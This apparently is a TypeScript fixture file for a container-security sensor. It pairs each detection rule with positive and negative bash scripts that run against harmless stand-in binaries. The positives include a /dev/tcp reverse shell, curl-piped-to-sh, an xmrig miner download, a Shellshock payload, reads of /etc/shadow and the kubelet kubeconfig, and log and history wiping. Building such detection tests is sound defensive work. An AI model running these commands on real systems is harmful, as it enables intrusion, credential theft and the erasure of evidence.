// The default rules' test cases (rules/sensord_rules.yaml): per rule, a positive and a negative behaviour.
// Each behaviour is a bash script run in a sandbox directory $T (HOME=$T/home, PATH=$T/bin:...), where
// $T/bin holds symlinks that give harmless system binaries (true, cat, dash, sleep) the names of the tools a
// rule looks for: `xmrig` is /bin/true, so nothing real runs, nothing leaves the machine, and only files
// under $T are written. The same scripts are run live (live-default-rules.test.ts) and were recorded into
// the fixtures (test/fixtures/rules/<id>.<pos|neg>.scap.gz, replay-fixtures.test.ts).
// Network: only 127.0.0.1 ($PORT is a listener the harness opens). IPs in fake tools' arguments are
// documentation addresses (RFC 5737) that no process ever connects to.

export interface Behaviour {
  /** bash -c script; $T, $HOME, $PORT are set by the harness. */
  script: string;
  /** What it shows (the fixture README line). */
  what: string;
}

export interface RuleCase {
  /** The stable id: the K8S.NODE_* tag of the rule. */
  id: string;
  /** The rule name in rules/sensord_rules.yaml. */
  rule: string;
  pos: Behaviour;
  neg: Behaviour;
  /**
   * The rule only fires in containers (`container.id != host`): live, the positive expects the alert only when
   * the test itself runs in a container; schema-event tests cover both sides on any machine.
   */
  containerOnly?: boolean;
  /** Needs the loopback listener ($PORT). */
  listener?: boolean;
}

/** Fake tools: name → the harmless binary the symlink points at. */
export const FAKE_TOOLS: Record<string, string> = {
  ...Object.fromEntries([
    'xmrig', 'kworkerds', 'kworker-upd', 'node-app', 'minerva', 'curl', 'wget', 'docker', 'systemctl', 'kaiten',
    'kaizen', 'slowloris', 'loadtest', 'asc_alerttest_662jfi039n', 'alerttest_662jfi039n', 'sqlmap', 'sqlite3',
    'hashcat', 'hashdeep', 'sandcat.go', 'agent', 'svc-handler', 'truncate', 'openssl', 'socat', 'ssh', 'sshd',
    'useradd', 'nohup',
  ].map((n) => [n, '/bin/true'])),
  dpkg: '/bin/dash',
  'php-fpm': '/bin/dash',
  kubelet: '/bin/cat',
  auditd: '/bin/sleep',
};

export const CASES: RuleCase[] = [
  {
    id: 'K8S.NODE_NamespaceCreation', rule: 'Namespace Creation In Container', containerOnly: true,
    pos: { script: 'unshare -U true', what: 'unshare -U creates a user namespace (alerts only in a container)' },
    neg: { script: 'unshare true', what: 'unshare with no namespace flags: unshare(0)' },
  },
  {
    id: 'K8S.NODE_HistoryFileCleared', rule: 'History File Cleared',
    pos: { script: 'mkdir -p "$HOME"; : > "$HOME/.bash_history"', what: 'truncates $HOME/.bash_history (open O_TRUNC)' },
    neg: { script: 'mkdir -p "$HOME"; echo ls >> "$HOME/.bash_history"', what: 'appends to $HOME/.bash_history (O_APPEND, as shells do)' },
  },
  {
    id: 'K8S.NODE_SuspectConnection', rule: 'SOCKS Proxy Connection Tool',
    pos: { script: 'ssh -D 1080 -N user@203.0.113.10', what: 'ssh -D (dynamic SOCKS forwarding), fake ssh' },
    neg: { script: 'ssh -p 2222 user@203.0.113.10 uptime', what: 'plain ssh command, fake ssh' },
  },
  {
    id: 'K8S.NODE_TimerServiceDisabled', rule: 'Apt Daily Upgrade Timer Stopped',
    pos: { script: 'systemctl stop apt-daily-upgrade.timer', what: 'systemctl stop apt-daily-upgrade.timer, fake systemctl' },
    neg: { script: 'systemctl status apt-daily-upgrade.timer', what: 'systemctl status of the timer, fake systemctl' },
  },
  {
    id: 'K8S.NODE_CommonBot', rule: 'Common Linux Bot Process',
    pos: { script: 'kaiten 203.0.113.9 6667', what: 'a process named kaiten (Tsunami/Kaiten IRC bot), fake' },
    neg: { script: 'kaizen --help', what: 'a process named kaizen (not a bot)' },
  },
  {
    id: 'K8S.NODE_PrivilegedContainerArtifacts', rule: 'Privileged Container Started From Node',
    pos: { script: 'docker run --rm --privileged alpine true', what: 'docker run --privileged, fake docker' },
    neg: { script: 'docker run --rm alpine true', what: 'docker run without --privileged, fake docker' },
  },
  {
    id: 'K8S.NODE_CryptoCoinMinerDownload', rule: 'Crypto Coin Miner Download',
    pos: { script: 'wget -q https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O "$T/x.tgz"', what: 'wget of an xmrig release, fake wget' },
    neg: { script: 'wget -q https://deb.debian.org/debian/README -O "$T/readme"', what: 'wget of an ordinary file, fake wget' },
  },
  {
    id: 'K8S.NODE_SuspectDownload', rule: 'Download From Known Malicious Source',
    pos: { script: 'curl -fsSL https://pastebin.com/raw/sensord0 -o "$T/p"', what: 'curl from pastebin raw, fake curl' },
    neg: { script: 'curl -fsSL https://deb.debian.org/debian/README -o "$T/p"', what: 'curl of an ordinary file, fake curl' },
  },
  {
    id: 'K8S.NODE_SuspectDownloadArtifacts', rule: 'Suspicious File Download From IP Address',
    pos: { script: 'wget http://203.0.113.50/x.sh -O "$T/x.sh"', what: 'wget from a bare IP address, fake wget' },
    neg: { script: 'wget http://127.0.0.1:8080/x.sh -O "$T/x.sh"', what: 'wget from loopback (excluded), fake wget' },
  },
  {
    id: 'K8S.NODE_SuspectNohup', rule: 'Nohup Of Hidden File In Temp Directory',
    pos: { script: 'nohup /tmp/.sensord-hidden-implant', what: 'nohup of a hidden file in /tmp, fake nohup' },
    neg: { script: 'nohup "$T/visible-job.sh"', what: 'nohup of a visible file, fake nohup' },
  },
  {
    id: 'K8S.NODE_SuspectUserAddition', rule: 'User Added With Useradd',
    pos: { script: 'useradd -m sensordtest', what: 'useradd run from a shell, fake useradd' },
    neg: { script: "dpkg -c 'useradd --system sensordsvc; :'", what: 'useradd under a package manager (dpkg = a dash copy), fake useradd' },
  },
  {
    id: 'K8S.NODE_DigitalCurrencyMining', rule: 'Digital Currency Mining Pool Command',
    pos: { script: 'xmrig -o stratum+tcp://127.0.0.1:3333 -u sensordwallet', what: 'xmrig with a stratum+tcp pool URL, fake xmrig' },
    neg: { script: 'node-app --url tcp://127.0.0.1:3333', what: 'a tcp:// URL without stratum, fake binary' },
  },
  {
    id: 'K8S.NODE_ImageBuildOnNode', rule: 'Container Image Build On Node',
    pos: { script: 'docker build -t sensord-test "$T"', what: 'docker build, fake docker' },
    neg: { script: 'docker ps', what: 'docker ps, fake docker' },
  },
  {
    id: 'K8S.NODE_KnownLinuxDDoSToolkit', rule: 'Linux DDoS Toolkit',
    pos: { script: 'slowloris 127.0.0.1 -p 8080', what: 'a process named slowloris, fake' },
    neg: { script: 'loadtest -c 10 http://127.0.0.1:8080/', what: 'a load-testing tool name not in the list, fake' },
  },
  {
    id: 'K8S.NODE_EICAR', rule: 'Defender Test Alert',
    pos: { script: 'asc_alerttest_662jfi039n testing eicar pipe', what: "Defender's documented test binary name, fake" },
    neg: { script: 'alerttest_662jfi039n testing', what: 'a similar name without the asc_ prefix, fake' },
  },
  {
    id: 'K8S.NODE_KnownLinuxAttackTool', rule: 'Known Linux Attack Tool',
    pos: { script: "sqlmap -u 'http://127.0.0.1/?id=1' --batch", what: 'a process named sqlmap, fake' },
    neg: { script: 'sqlite3 --version', what: 'a process named sqlite3, fake' },
  },
  {
    id: 'K8S.NODE_LinuxBackdoorArtifact', rule: 'Fresh Binary Executed From Temp Directory',
    pos: { script: 'cp /bin/true "$T/upd" && "$T/upd"; exit 0', what: 'a binary copied into /tmp and run at once (fresh ctime)' },
    neg: { script: '"$T/bin/kaizen"', what: 'a program started from /tmp through a symlink to an old system binary' },
  },
  {
    id: 'K8S.NODE_ExploitAttempt', rule: 'Command Line Exploitation Attempt',
    pos: { script: "svc-handler '() { :; }; echo sensord-shellshock'", what: 'a Shellshock payload on a command line, fake binary' },
    neg: { script: "svc-handler '{ \"id\": 1 }'", what: 'a JSON argument, fake binary' },
  },
  {
    id: 'K8S.NODE_KnownLinuxCredentialAccessTool', rule: 'Known Linux Credential Access Tool',
    pos: { script: 'hashcat -m 1800 "$T/hashes" "$T/words"', what: 'a process named hashcat, fake' },
    neg: { script: 'hashdeep -r "$T"', what: 'a process named hashdeep, fake' },
  },
  {
    id: 'K8S.NODE_SystemLogRemoval', rule: 'System Log Removal',
    pos: { script: 'truncate -s 0 /var/log/syslog', what: 'truncate -s 0 /var/log/syslog, fake truncate (nothing is touched)' },
    neg: { script: 'truncate -s 0 "$T/app.log"', what: 'truncate of a file outside /var/log, fake truncate' },
  },
  {
    id: 'K8S.NODE_SuspectPasswordChange', rule: 'Password Change Using Crypt Method',
    pos: { script: 'openssl passwd -6 -salt sensord sensordtest', what: 'openssl passwd -6, fake openssl' },
    neg: { script: 'openssl version', what: 'openssl version, fake openssl' },
  },
  {
    id: 'K8S.NODE_SuspectPortForwarding', rule: 'Port Forwarding Tool',
    pos: { script: 'socat TCP-LISTEN:18080,fork TCP:198.51.100.7:80', what: 'socat listening and relaying, fake socat' },
    neg: { script: 'socat -V', what: 'socat -V, fake socat' },
  },
  {
    id: 'K8S.NODE_ReverseShell', rule: 'Reverse Shell', listener: true,
    pos: { script: 'exec 3<>/dev/tcp/127.0.0.1/$PORT; exec 0<&3 1>&3; echo sensord-reverse-shell; exit 0', what: 'bash connects to a loopback listener and dups the socket onto stdin/stdout' },
    neg: { script: 'exec 3<>/dev/tcp/127.0.0.1/$PORT; exec 3>&-; exit 0', what: 'bash connects to a loopback listener and closes the socket without redirecting stdio' },
  },
  {
    id: 'K8S.NODE_CryptoCoinMinerArtifacts', rule: 'Crypto Coin Miner Process',
    pos: { script: 'xmrig -c "$T/config.json"', what: 'a process named xmrig without pool arguments, fake' },
    neg: { script: 'minerva --version', what: 'a process named minerva, fake' },
  },
  {
    id: 'K8S.NODE_SshKeyAccess', rule: 'SSH Authorized Keys Access',
    pos: { script: 'mkdir -p "$HOME/.ssh"; echo "ssh-ed25519 AAAAsensordtest sensord" >> "$HOME/.ssh/authorized_keys"', what: 'a key appended to $HOME/.ssh/authorized_keys' },
    neg: { script: 'mkdir -p "$HOME/.ssh"; echo "127.0.0.1 ssh-ed25519 AAAAsensordtest" >> "$HOME/.ssh/known_hosts"', what: 'a line appended to $HOME/.ssh/known_hosts' },
  },
  {
    id: 'K8S.NODE_SuspectProcessTermination', rule: 'Security Process Terminated',
    pos: { script: 'auditd 30 & p=$!; sleep 0.2; kill -TERM $p; wait $p; exit 0', what: 'SIGTERM to a process named auditd (a sleep copy started by the test)' },
    neg: { script: 'sleep 30 & p=$!; sleep 0.2; kill -TERM $p; wait $p; exit 0', what: 'SIGTERM to a sleep started by the test' },
  },
  {
    id: 'K8S.NODE_ContainerSSH', rule: 'SSH Server Started In Container', containerOnly: true,
    pos: { script: 'sshd -D -e', what: 'a process named sshd (alerts only in a container), fake' },
    neg: { script: 'ssh -V', what: 'the ssh client, fake' },
  },
  {
    id: 'K8S.NODE_TimestampTampering', rule: 'File Timestamp Tampering',
    pos: { script: 'touch "$T/planted"; touch -r /etc/hostname "$T/planted"', what: 'touch -r copies /etc/hostname times onto a temp file' },
    neg: { script: 'touch "$T/planted"', what: 'plain touch of a temp file' },
  },
  {
    id: 'K8S.NODE_CryptoCoinMinerExecution', rule: 'Crypto Coin Miner Started',
    pos: { script: 'kworker-upd --donate-level 1 -a rx/0', what: 'miner options (--donate-level, -a rx/0) under another name, fake' },
    neg: { script: 'kworker-upd --level 1', what: 'similar options, no miner option, fake' },
  },
  {
    id: 'K8S.NODE_SuspectPasswordFileAccess', rule: 'Shadow Password File Read',
    pos: { script: 'cat /etc/shadow > /dev/null', what: 'cat reads /etc/shadow (read-only, output discarded)' },
    neg: { script: 'cat /etc/passwd > /dev/null', what: 'cat reads /etc/passwd' },
  },
  {
    id: 'K8S.NODE_Webshell', rule: 'Web Server Spawned Shell',
    pos: { script: "php-fpm -c '/bin/sh -c \"echo sensord-webshell\"; :'", what: 'a process named php-fpm (a dash copy) starts /bin/sh' },
    neg: { script: "php-fpm -c '/bin/echo sensord-static; :'", what: 'php-fpm starts echo, not a shell' },
  },
  {
    id: 'K8S.NODE_DownloadAndRunCombo', rule: 'Download Then Run',
    pos: { script: 'curl -fsSL http://downloads.example.invalid/install.sh | sh', what: 'curl … | sh (fake curl outputs nothing, sh runs nothing)' },
    neg: { script: 'curl -fsSL http://downloads.example.invalid/install.sh -o "$T/install.sh"', what: 'curl to a file, not run' },
  },
  {
    id: 'K8S.NODE_KubeConfigAccess', rule: 'Kubelet Kubeconfig Access',
    pos: { script: 'cat /var/lib/kubelet/kubeconfig 2>/dev/null; exit 0', what: 'cat tries /var/lib/kubelet/kubeconfig (ENOENT here: the attempt alerts)' },
    neg: { script: 'kubelet /var/lib/kubelet/kubeconfig 2>/dev/null; exit 0', what: 'a process named kubelet (a cat copy) opens it' },
  },
  {
    id: 'K8S.NODE_MitreCalderaTools', rule: 'MITRE Caldera Agent',
    pos: { script: 'sandcat.go -server http://127.0.0.1:8888 -group red -v', what: 'a process named sandcat.go, fake' },
    neg: { script: 'agent -group red', what: 'an agent with -group but no -server URL, fake' },
  },
];

/** Rules tested with events built from the schema only (traffic beyond loopback). */
export const SCHEMA_ONLY = ['K8S.NODE_KubernetesAPI', 'K8S.NODE_ImdsCall'];

/**
 * A behaviour inside a container of a private containerd (test/helpers/containerd.ts): the container runs `command`
 * (its init, pid 1 of its pid namespace), then `exec` runs in it as `ctr tasks exec` (what crictl/kubectl exec do).
 */
export interface ContainerBehaviour { privileged: boolean; command: string[]; exec: string[]; what: string }

/** Rules that need container metadata (container.privileged, …): their fixtures are recorded with `capture --container`. */
export interface ContainerRuleCase {
  id: string; rule: string; pos: ContainerBehaviour; neg: ContainerBehaviour;
  /** proc.name of each alert the positive raises, sorted. */
  alerts: string[];
}

const SUBSHELL_ID = ['/bin/sh', '-c', '(exec /bin/id) > /dev/null; sleep 60'];

export const CONTAINER_CASES: ContainerRuleCase[] = [
  {
    id: 'K8S.NODE_PrivilegedExecutionInContainer', rule: 'Command In Privileged Container',
    pos: { privileged: true, command: SUBSHELL_ID, exec: ['/bin/ls', '/'], what: 'a privileged container runs `id` in a subshell, then `ls` is exec\'d into it (2 alerts)' },
    neg: { privileged: false, command: SUBSHELL_ID, exec: ['/bin/ls', '/'], what: 'the same in an unprivileged container' },
    alerts: ['id', 'ls'], // not the container's init (sh, then sleep exec'd in its place: pid 1)
  },
];
